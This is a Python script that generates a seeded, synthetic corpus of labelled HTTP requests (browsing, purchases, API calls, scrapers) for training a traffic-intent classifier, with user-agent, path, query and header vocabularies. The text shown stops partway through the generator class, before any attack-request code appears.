"""Generate the labelled, synthetic request corpus for the intent model.

Output: ``data/corpus.csv.gz`` (next to this file), one request per row:

    label, method, path, query, query_present, header_names, user_agent,
    ua_present, recent_rate

* ``path`` and ``query`` are raw (percent-encoded as on the wire); ``query``
  is ``""`` with ``query_present=0`` when the request had no ``?``.
* ``header_names`` is the lower-case header names joined with ``;`` (``;``
  cannot occur in a header name).
* ``user_agent`` is ``""`` with ``ua_present=0`` when there was no header.
* ``recent_rate`` is the client's requests/s over the last ~10 s.

Only the standard library's ``random.Random`` (seeded) is used, and the gzip
header carries no timestamp, so the file is byte-identical on every run.

The generator is deliberately not clean: benign traffic includes odd user
agents, WordPress upload paths, apostrophes in searches and paginated API
calls; attacks include browser user agents with full browser headers, slow
credential stuffing, payloads hidden in request bodies and double-encoded
payloads that the features cannot see. See README.md for the limits.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
from typing import Callable, List, Optional

SEED = 20240611
COUNTS = {"browse": 15000, "purchase": 6000, "api": 9000, "scraper": 5000, "attack": 5000}
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "corpus.csv.gz")
COLUMNS = ["label", "method", "path", "query", "query_present", "header_names",
           "user_agent", "ua_present", "recent_rate"]

# ---------------------------------------------------------------- user agents

CHROMIUM_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0",
]
FIREFOX_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
]
SAFARI_UAS = [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/452.0.0.41.108]",
]
HEADLESS_UAS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.28 Safari/537.36",
]
OLD_BROWSER_UAS = [  # what scanners and scrapers like to spoof
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0",
    "Opera/9.80 (Windows NT 6.0) Presto/2.12.388 Version/12.14",
]
SEARCH_CRAWLER_UAS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
]
SEO_CRAWLER_UAS = [
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
    "PriceSpider-crawler/2.3 (+https://pricespider.example/crawler)",
]
LINK_PREVIEW_UAS = [  # fetched because a person shared or opened a link
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Twitterbot/1.0",
    "WhatsApp/2.23.20.0",
    "TelegramBot (like TwitterBot)",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
]
SCRIPT_UAS = [
    "python-requests/2.31.0", "python-requests/2.28.1", "Python-urllib/3.11",
    "python-httpx/0.27.0", "Python/3.11 aiohttp/3.9.3", "Go-http-client/1.1",
    "Go-http-client/2.0", "curl/7.88.1", "curl/8.5.0", "curl/8.7.1", "Wget/1.21.3",
    "okhttp/4.12.0", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.6.8", "undici",
    "Scrapy/2.11.1 (+https://scrapy.org)", "libwww-perl/6.72", "Ruby",
    "GuzzleHttp/7", "PostmanRuntime/7.37.0", "HTTPie/3.2.2", "reqwest/0.12",
    "Dart/3.3 (dart:io)",
]
SCRAPER_SCRIPT_UAS = [
    "python-requests/2.31.0", "python-requests/2.25.1", "Scrapy/2.11.1 (+https://scrapy.org)",
    "Scrapy/2.5.0 (+https://scrapy.org)", "Go-http-client/1.1", "Python/3.10 aiohttp/3.8.5",
    "curl/7.68.0", "Wget/1.20.3 (linux-gnu)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/0.27.2", "Java/1.8.0_292", "python-httpx/0.25.1", "Python-urllib/3.8",
]
SCANNER_UAS = [
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix-Scanner",
    "l9explore/1.2.2",
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; pl; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3 ZmEu",
]
APP_UAS = [  # first-party mobile apps and SDKs: no recognised token
    "ShopApp/4.2.1 (iPhone; iOS 17.2; Scale/3.00)",
    "ShopApp/4.1.0 (Android 14; Pixel 8)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
    "Expo/2.29.8 CFNetwork/1494.0.7 Darwin/23.4.0",
    "stripe-python/8.1.0", "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/7d2c1f0", "acme-erp-sync/2.3.1", "Microsoft Office/16.0 (Windows NT 10.0)",
]

# --------------------------------------------------------------- vocabulary

WORDS = ("red blue green black white classic modern vintage leather wool cotton linen "
         "summer winter running trail city garden kitchen office travel kids women men "
         "organic premium slim classic lite pro max mini ultra smart wireless").split()
NOUNS = ("shoe boot jacket shirt dress lamp chair table sofa mug kettle backpack "
         "watch headphones speaker camera tent bottle blanket pillow rug desk bike "
         "helmet scarf hat glove sneaker laptop-sleeve").split()
CATEGORIES = ("shoes clothing home-garden electronics outdoor kitchen kids beauty "
              "sports books toys furniture accessories sale new-arrivals").split()
BLOG = ("how-to-choose-running-shoes spring-collection-2024 care-guide-leather "
        "our-story sustainability-report gift-ideas behind-the-scenes size-guide "
        "caf%C3%A9-au-lait-recipes 10-tips-for-camping stra%C3%9Fe-style "
        "%E6%97%A5%E6%9C%AC-travel-notes").split()
SEARCH_TERMS = ["running shoes", "red dress", "gift for dad", "usb c cable", "winter jacket",
                "O'Reilly books", "rock 'n' roll t-shirt", "c++ primer", "caf\u00e9 mug",
                "size 42", "50% off", "kids & baby", "sofa 3-seater", "\u2713 waterproof",
                "\u65e5\u672c", "l\u00e9ger", "tent 2 person", "headphones <100", "mug"]
API_RESOURCES = ("users orders products invoices customers events shipments "
                 "subscriptions payments webhooks reports inventory carts tokens").split()
LANG_PREFIX = ["", "", "", "", "/en", "/en-us", "/fr", "/de", "/es"]


class Gen:
    """All randomness goes through one seeded ``random.Random``."""

    def __init__(self, seed: int) -> None:
        self.r = random.Random(seed)

    # ------------------------------------------------------------ helpers
    def p(self, prob: float) -> bool:
        return self.r.random() < prob

    def choice(self, seq):
        return self.r.choice(seq)

    def weighted(self, pairs):
        items = [x for x, _ in pairs]
        weights = [w for _, w in pairs]
        return self.r.choices(items, weights=weights, k=1)[0]

    def hexs(self, n: int) -> str:
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def rate(self, median: float, sigma: float, lo: float = 0.05, hi: float = 500.0) -> float:
        x = self.r.lognormvariate(0.0, sigma) * median
        return round(min(max(x, lo), hi), 3)

    def slug(self) -> str:
        return f"{self.choice(WORDS)}-{self.choice(NOUNS)}" + (f"-{self.r.randint(2, 999)}" if self.p(0.3) else "")

    def product_path(self) -> str:
        return self.weighted([
            (lambda: f"/products/{self.slug()}", 5),
            (lambda: f"/product/{self.r.randint(1000, 99999)}", 3),
            (lambda: f"/p/{self.r.randint(100000, 999999)}", 2),
            (lambda: f"/item/{self.r.randint(10000, 99999)}/{self.slug()}", 1),
            (lambda: f"{self.choice(['/de/produkte', '/fr/produits', '/es/productos'])}/{self.slug()}", 1),
        ])()

    def category_path(self) -> str:
        return self.choice(["/category/", "/c/", "/collections/", "/shop/"]) + self.choice(CATEGORIES)

    def page_path(self) -> str:
        lang = self.choice(LANG_PREFIX)
        return lang + self.weighted([
            ("/", 10),
            (self.product_path(), 25),
            (self.category_path(), 12),
            (f"/blog/{self.r.randint(2019, 2024)}/{self.r.randint(1, 12):02d}/{self.choice(BLOG)}", 6),
            (f"/news/{self.choice(BLOG)}", 3),
            (self.choice(["/about", "/contact", "/faq", "/stores", "/careers", "/privacy",
                          "/terms", "/shipping-returns", "/help/sizing", "/help/returns"]), 10),
            (f"/docs/{self.choice(['getting-started', 'guides', 'reference'])}/{self.slug()}", 3),
            (self.choice(["/help/payment-methods", "/order-status", "/pages/how-to-order",
                          "/help/cart-problems", "/checkout-faq", "/pay-later"]), 2),
            ("/account", 3), ("/account/profile", 2), ("/wishlist", 2),
        ])

    def asset_path(self) -> str:
        return self.weighted([
            (f"/static/js/main.{self.hexs(8)}.js", 6),
            (f"/static/css/app.{self.hexs(8)}.css", 5),
            (f"/_next/static/chunks/{self.hexs(16)}.js", 4),
            (f"/assets/img/{self.choice(NOUNS)}-{self.r.randint(1, 40)}.{self.choice(['png', 'jpg', 'webp', 'svg', 'avif'])}", 8),
            (f"/images/products/{self.r.randint(1000, 99999)}_{self.choice(['400x400', '800x800', 'thumb'])}.jpg", 8),
            ("/favicon.ico", 3),
            (f"/fonts/inter-{self.choice(['400', '600', '700'])}.woff2", 3),
            (f"/static/js/vendor.{self.hexs(8)}.js.map", 1),
            (f"/media/video/{self.slug()}.mp4", 1),
            ("/manifest.json", 1),
            ("/robots.txt", 1),
        ])

    def pct(self, s: str, safe: str = "", upper: bool = True) -> str:
        """Percent-encode everything except unreserved characters and ``safe``."""
        out = []
        for ch in s:
            if (ch.isascii() and ch.isalnum()) or ch in "-._~" or ch in safe:
                out.append(ch)
            else:
                for b in ch.encode("utf-8"):
                    out.append(f"%{b:02X}" if upper else f"%{b:02x}")
        return "".join(out)

    def dots(self, s: str) -> str:
        """Traversal-style encoding: dots and slashes as escapes, in either case."""
        up = self.p(0.5)
        for ch, code in ((".", "%2e"), ("/", "%2f"), ("\\", "%5c")):
            s = s.replace(ch, code.upper() if up else code)
        return s

    def form_value(self, s: str) -> str:
        """How a browser encodes a form value: spaces as ``+``."""
        return self.pct(s, safe=" ").replace(" ", "+")

    def random_case(self, s: str, prob: float = 0.5) -> str:
        return "".join(c.upper() if c.isalpha() and self.p(prob) else c for c in s)

    # ------------------------------------------------------------- headers
    def browser_headers(self, ua: str, kind: str, cookie: float, referer: float,
                        body: bool = False, xhr: bool = False) -> List[str]:
        """Header names a real browser sends; ``kind`` is navigate/asset/xhr/form."""
        chromium = "Chrome/" in ua and "HeadlessChrome" not in ua or "Edg/" in ua
        firefox = "Firefox/" in ua
        modern_safari = "Version/17" in ua or "Version/16.6" in ua
        h = []
        if self.p(0.6):
            h.append("host")  # absent over HTTP/2 (:authority)
            if self.p(0.7):
                h.append("connection")
        if chromium or "HeadlessChrome" in ua and self.p(0.5):
            h += ["sec-ch-ua", "sec-ch-ua-mobile", "sec-ch-ua-platform"]
        if kind == "navigate":
            h.append("upgrade-insecure-requests")
        h.append("user-agent")
        if kind != "asset" or self.p(0.9):
            h.append("accept")
        if body or xhr and self.p(0.3):
            h += ["content-type", "content-length"]
        if body and self.p(0.85):
            h.append("origin")
        if xhr and self.p(0.35):
            h.append("x-requested-with")
        if xhr and body and self.p(0.5):
            h.append("x-csrf-token")
        if chromium or firefox or modern_safari or "HeadlessChrome" in ua:
            h += ["sec-fetch-site", "sec-fetch-mode", "sec-fetch-dest"]
            if kind == "navigate":
                h.append("sec-fetch-user")
        if self.p(referer):
            h.append("referer")
        h.append("accept-encoding")
        if self.p(0.97):
            h.append("accept-language")
        if self.p(cookie):
            h.append("cookie")
        if kind == "asset" and self.p(0.3):
            h.append(self.choice(["if-none-match", "if-modified-since"]))
        if self.p(0.1):
            h.append(self.choice(["cache-control", "pragma", "dnt", "priority", "te"]))
        return h

    def thin_headers(self, accept: float = 0.85, extra: Optional[List[str]] = None,
                     ua: bool = True) -> List[str]:
        """What a script sends: a handful of headers."""
        h = ["host"] if self.p(0.9) else []
        if ua:
            h.append("user-agent")
        if self.p(accept):
            h.append("accept")
        if self.p(0.7):
            h.append("accept-encoding")
        if self.p(0.4):
            h.append("connection")
        h += extra or []
        return h

    def any_browser_ua(self) -> str:
        return self.weighted([(self.choice(CHROMIUM_UAS), 65), (self.choice(SAFARI_UAS), 25),
                              (self.choice(FIREFOX_UAS), 10)])

    # ------------------------------------------------------------- classes
    def browse(self) -> dict:
        ua: Optional[str] = self.any_browser_ua()
        kind = self.weighted([("page", 43), ("asset", 36), ("search", 8), ("login", 4),
                              ("misc", 3), ("xhr", 2), ("wp", 2), ("preview", 2)])
        method, query, body = "GET", None, False
        rate = self.rate(0.8, 0.9, hi=40)
        if kind == "page":
            path = self.page_path()
            if self.p(0.15):
                query = "&".join(self.r.sample([
                    f"utm_source={self.choice(['google', 'newsletter', 'facebook', 'instagram'])}",
                    "utm_medium=cpc", f"utm_campaign=spring{self.r.randint(1, 9)}",
                    f"gclid={self.hexs(20)}", f"ref={self.hexs(6)}", f"color={self.choice(WORDS)}",
                    f"sort={self.choice(['price_asc', 'newest', 'popular'])}",
                    f"page={self.r.randint(2, 12)}"], self.r.randint(1, 3)))
            headers = self.browser_headers(ua, "navigate", cookie=0.7, referer=0.6)
        elif kind == "asset":
            path = self.asset_path()
            if self.p(0.2):
                query = f"v={self.hexs(8)}"
            headers = self.browser_headers(ua, "asset", cookie=0.75, referer=0.95)
            rate = self.rate(2.5, 0.8, hi=60)
        elif kind == "search":
            path = self.choice(["/search", "/search", "/s", "/en/search", "/catalogsearch/result"])
            term = self.choice(SEARCH_TERMS)
            if self.p(0.03):
                term = self.choice(["union select jeans", "select or return", "-- best deals --",
                                    "pasted\nline", "size: 42\r\n"])
            query = "q=" + self.form_value(term)
            if self.p(0.3):
                query += f"&page={self.r.randint(2, 6)}"
            if self.p(0.2):
                query += "&sort=" + self.choice(["relevance", "price_desc"])
            headers = self.browser_headers(ua, "navigate", cookie=0.75, referer=0.85)
        elif kind == "login":
            path = self.choice(["/login", "/account/login", "/signin", "/account/register",
                                "/password/reset", "/logout"])
            if self.p(0.45):
                method, body = "POST", True
            if self.p(0.2):
                query = "next=" + self.pct(self.choice(["/account", "/checkout", "/wishlist"]))
            headers = self.browser_headers(ua, "form" if body else "navigate", cookie=0.8,
                                           referer=0.9, body=body)
            rate = self.rate(0.4, 0.8)
        elif kind == "misc":
            method = self.weighted([("HEAD", 3), ("POST", 4), ("OPTIONS", 1), ("GET", 2)])
            if method == "POST":
                path, body = self.choice(["/newsletter/subscribe", "/contact", "/reviews", "/api/track"]), True
            else:
                path = self.page_path()
            headers = self.browser_headers(ua, "form" if body else "navigate", cookie=0.6,
                                           referer=0.8, body=body)
            if method == "HEAD" and self.p(0.5):
                ua = self.choice(SCRIPT_UAS[:10])  # uptime checks and link checkers
                headers = self.thin_headers()
        elif kind == "xhr":  # suggestions, infinite scroll, recommendation widgets
            path, query = self.choice([
                ("/search/suggest", "q=" + self.form_value(self.choice(SEARCH_TERMS)[:4])),
                (self.category_path(), f"page={self.r.randint(2, 9)}&ajax=1"),
                ("/recommendations", f"product={self.r.randint(1000, 99999)}"),
                ("/api/track", None)])
            headers = self.browser_headers(ua, "xhr", cookie=0.8, referer=0.95, xhr=True)
            rate = self.rate(1.5, 0.8, hi=40)
        elif kind == "wp":  # the site's own WordPress blog
            path = self.choice([
                f"/wp-content/uploads/{self.r.randint(2019, 2024)}/{self.r.randint(1, 12):02d}/{self.choice(NOUNS)}-{self.r.randint(1, 9)}.jpg",
                f"/wp-content/themes/storefront/style.css", f"/wp-includes/js/jquery/jquery.min.js",
                f"/blog/{self.choice(BLOG)}/"])
            headers = self.browser_headers(ua, "asset", cookie=0.5, referer=0.9)
        else:  # link previews and one-off tools: a person asked for the page
            path = self.page_path()
            ua = self.choice(LINK_PREVIEW_UAS + APP_UAS[:3] + ["curl/8.5.0"])
            headers = self.thin_headers(accept=0.7)
            rate = self.rate(0.3, 0.7)
        if self.p(0.005):
            ua = None
            headers = [h for h in headers if h != "user-agent"]
        return dict(method=method, path=path, query=query, headers=headers, ua=ua, rate=rate)

    def purchase(self) -> dict:
        ua: Optional[str] = self.any_browser_ua()
        kind = self.weighted([("cart", 15), ("add", 20), ("checkout", 25), ("place", 10),
                              ("confirm", 8), ("psp", 5), ("coupon", 5), ("cart_api", 7),
                              ("hidden", 5), ("product", 4)])
        method, query, body, xhr = "GET", None, False, False
        if kind == "cart":
            path = self.choice(["/cart", "/cart", "/basket", "/en/cart", "/cart/"])
        elif kind == "add":
            method, body = "POST", True
            xhr = self.p(0.5)
            path = self.choice(["/cart/add", "/cart/add.js", "/cart/items", "/basket/add",
                                f"/products/{self.slug()}/add-to-cart"])
        elif kind == "checkout":
            method = "POST" if self.p(0.5) else "GET"
            body = method == "POST"
            path = self.choice(["/checkout", "/checkout/", "/checkout/shipping", "/checkout/payment",
                                "/checkout/review", "/checkout/address", f"/checkouts/{self.hexs(24)}",
                                "/checkout/delivery-options"])
            if method == "GET" and self.p(0.2):
                query = f"step={self.choice(['contact_information', 'shipping_method', 'payment_method'])}"
        elif kind == "place":
            method, body = "POST", True
            xhr = self.p(0.4)
            path = self.choice(["/checkout/place-order", "/orders", "/checkout/complete",
                                "/checkout/submit", "/api/checkout/confirm"])
        elif kind == "confirm":
            path = self.choice([f"/order/confirmation/{self.r.randint(100000, 999999)}",
                                f"/account/orders/{self.r.randint(100000, 999999)}",
                                "/account/orders", f"/checkout/thank-you/{self.hexs(12)}"])
        elif kind == "psp":
            path = self.choice(["/payment/3ds/return", "/payment/callback", "/checkout/paypal/return",
                                "/pay/return"])
            query = f"token={self.hexs(16)}&PayerID={self.hexs(10).upper()}" if self.p(0.5) \
                else f"session_id=cs_{self.hexs(24)}&status={self.choice(['success', 'authorized'])}"
        elif kind == "coupon":
            method, body, xhr = "POST", True, self.p(0.6)
            path = self.choice(["/cart/coupon", "/cart/apply-discount", "/checkout/discount"])
        elif kind == "cart_api":
            method, xhr = self.choice(["PUT", "DELETE", "PATCH", "POST"]), True
            body = method != "DELETE"
            path = self.choice([f"/api/cart/items/{self.r.randint(1, 99999)}", "/api/cart",
                                f"/cart/line/{self.r.randint(1, 20)}", "/api/v1/cart/items"])
        elif kind == "product":  # add-to-cart links on a product page
            path = self.product_path()
            query = self.choice([f"add-to-cart={self.r.randint(10, 9999)}",
                                 f"variant={self.r.randint(10**8, 10**9)}&quantity={self.r.randint(1, 3)}",
                                 f"buy_now=1&sku={self.hexs(8).upper()}"])
        else:  # steps whose URL names no commerce word
            method, body = "POST", True
            path = self.choice(["/promo/redeem", "/giftcard/balance", "/account/address",
                                "/shipping/estimate", "/gift-wrap", "/api/v1/vouchers/validate",
                                "/delivery/slots"])
        if self.p(0.06):  # first-party mobile app
            ua = self.choice(APP_UAS[:4] + ["okhttp/4.12.0", "okhttp/4.11.0"])
            extra = ["authorization"] + (["content-type", "content-length"] if body else [])
            extra += self.r.sample(["x-app-version", "x-device-id", "x-request-id"], 2)
            headers = self.thin_headers(accept=0.95, extra=extra)
            rate = self.rate(0.4, 0.8)
        else:
            headers = self.browser_headers(ua, "xhr" if xhr else ("form" if body else "navigate"),
                                           cookie=0.97, referer=0.9, body=body, xhr=xhr)
            rate = self.rate(0.6, 0.8, hi=30)
        return dict(method=method, path=path, query=query, headers=headers, ua=ua, rate=rate)

    def api_path(self) -> str:
        prefix = self.weighted([("/api/v1", 35), ("/api/v2", 15), ("/api", 10), ("/v1", 15),
                                ("/v2", 5), ("/rest/v1", 5), ("/public-api", 3), ("", 2)])
        res = self.choice(API_RESOURCES)
        tail = self.weighted([("", 4), (f"/{self.r.randint(1, 999999)}", 5), (f"/{self.hexs(24)}", 2),
                              (f"/{self.r.randint(1, 9999)}/{self.choice(API_RESOURCES)}", 2)])
        return f"{prefix}/{res}{tail}"

    def api(self) -> dict:
        client = self.weighted([("script", 55), ("spa", 30), ("mobile", 15)])
        kind = self.weighted([("get", 30), ("list", 15), ("create", 15), ("update", 8),
                              ("delete", 4), ("graphql", 8), ("token", 4), ("webhook", 5),
                              ("health", 4), ("preflight", 4), ("batch", 3)])
        method, query = "GET", None
        path = self.api_path()
        if kind == "list":
            params = [f"limit={self.choice([10, 20, 50, 100])}"]
            params.append(self.weighted([(f"offset={self.r.randint(0, 50) * 50}", 3),
                                         (f"page={self.r.randint(1, 40)}", 3),
                                         (f"cursor={self.hexs(16)}", 2), ("", 2)]))
            if self.p(0.4):
                params.append(self.weighted([
                    (f"status={self.choice(['open', 'paid', 'shipped', 'active'])}", 3),
                    (f"created_gte={self.r.randint(2022, 2024)}-0{self.r.randint(1, 9)}-01", 2),
                    ("sort=-created_at", 2), ("expand%5B%5D=customer", 1),
                    ("filter=" + self.pct(f"name eq '{self.choice(NOUNS)}'"), 1),
                    ("fields=id,name,price", 1)]))
            query = "&".join(p for p in params if p)
        elif kind == "create":
            method = "POST"
        elif kind == "update":
            method = self.choice(["PUT", "PATCH", "PATCH"])
        elif kind == "delete":
            method = "DELETE"
        elif kind == "graphql":
            method, path = ("POST", "/graphql") if self.p(0.85) else ("GET", "/graphql")
            if method == "GET":
                query = "query=" + self.pct("{ product(id: %d) { name price } }" % self.r.randint(1, 9999))
        elif kind == "token":
            method = "POST"
            path = self.choice(["/oauth/token", "/api/v1/auth/token", "/oauth2/token",
                                "/api/v1/auth/refresh", "/api/v1/sessions"])
        elif kind == "webhook":
            method = "POST"
            path = self.choice(["/webhooks/stripe", "/webhooks/github", "/hooks/shipping",
                                "/api/webhooks/paypal", "/callbacks/sms"])
            client = "webhook"
        elif kind == "health":
            path = self.choice(["/health", "/healthz", "/api/health", "/api/v1/status", "/ready"])
            client = "probe"
        elif kind == "preflight":
            method, client = "OPTIONS", "preflight"
        elif kind == "batch":
            method = "POST"
            path = self.choice(["/api/v1/batch", "/api/v1/events", "/api/v2/bulk/products",
                                "/v1/track", "/api/v1/metrics"])
        body = method in ("POST", "PUT", "PATCH")

        if client == "script":
            ua = self.choice(SCRIPT_UAS + APP_UAS[4:]) if not self.p(0.02) else None
            auth = self.weighted([(["authorization"], 80), (["x-api-key"], 10), ([], 10)])
            extra = auth + (["content-type", "content-length"] if body else [])
            if self.p(0.3):
                extra.append("x-request-id")
            if body and self.p(0.2):
                extra.append("idempotency-key")
            headers = self.thin_headers(accept=0.75, extra=extra, ua=ua is not None)
            rate = self.rate(3.0, 1.1, hi=300)
        elif client == "spa":
            ua = self.any_browser_ua()
            headers = self.browser_headers(ua, "xhr", cookie=0.8, referer=0.9, body=body, xhr=True)
            if self.p(0.5):
                headers.append("authorization")
            rate = self.rate(1.2, 0.8, hi=40)
        elif client == "mobile":
            ua = self.choice(APP_UAS[:4] + ["okhttp/4.12.0", "Dart/3.3 (dart:io)"])
            extra = ["authorization"] if self.p(0.95) else []
            extra += ["content-type", "content-length"] if body else []
            extra += self.r.sample(["x-app-version", "x-device-id", "x-request-id"], 2)
            headers = self.thin_headers(accept=0.95, extra=extra)
            rate = self.rate(0.6, 0.8)
        elif client == "webhook":
            ua = self.choice(["Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GitHub-Hookshot/7d2c1f0",
                              "PayPal/AUHD-214.0-58225744", "Go-http-client/1.1", "axios/1.6.8"])
            headers = self.thin_headers(accept=0.6, extra=["content-type", "content-length",
                                                           self.choice(["stripe-signature", "x-hub-signature-256",
                                                                        "x-signature"])])
            rate = self.rate(0.5, 1.0)
        elif client == "probe":
            ua = self.choice(["kube-probe/1.29", "ELB-HealthChecker/2.0", "Prometheus/2.51.0",
                              "curl/8.5.0", "Go-http-client/1.1", "Blackbox Exporter/0.25.0"])
            headers = self.thin_headers(accept=0.5)
            rate = self.rate(0.3, 0.5)
        else:  # CORS preflight from a browser page on another origin
            ua = self.any_browser_ua()
            headers = ["host", "user-agent", "accept", "access-control-request-method",
                       "access-control-request-headers", "origin", "sec-fetch-mode",
                       "sec-fetch-site", "sec-fetch-dest", "referer", "accept-encoding",
                       "accept-language"]
            rate = self.rate(1.0, 0.8)
        return dict(method=method, path=path, query=query, headers=headers, ua=ua, rate=rate)

    def scrape_target(self) -> tuple:
        """Path and query of a page a scraper harvests."""
        kind = self.weighted([("product", 45), ("listing", 25), ("search", 8), ("api", 8),
                              ("sitemap", 5), ("page", 6), ("asset", 3)])
        if kind == "product":
            return self.product_path(), (f"variant={self.r.randint(1, 9)}" if self.p(0.1) else None)
        if kind == "listing":
            param = self.choice(["page", "page", "p", "offset", "start", "pg"])
            val = self.r.randint(1, 400) * (24 if param in ("offset", "start") else 1)
            q = f"{param}={val}"
            if self.p(0.3):
                q = f"sort={self.choice(['price_asc', 'newest'])}&" + q
            return self.category_path(), q
        if kind == "search":
            return "/search", "q=" + self.form_value(self.choice(SEARCH_TERMS)) + f"&page={self.r.randint(1, 50)}"
        if kind == "api":
            return (self.choice(["/api/v1/products", "/api/products", "/products.json", "/api/v2/catalog/items"]),
                    f"{self.choice(['page', 'offset'])}={self.r.randint(1, 500)}&limit={self.choice([50, 100, 250])}")
        if kind == "sitemap":
            return self.choice(["/sitemap.xml", "/sitemap_index.xml", f"/sitemap-products-{self.r.randint(1, 30)}.xml",
                                "/robots.txt"]), None
        if kind == "asset":
            return self.asset_path(), None
        return self.page_path(), None

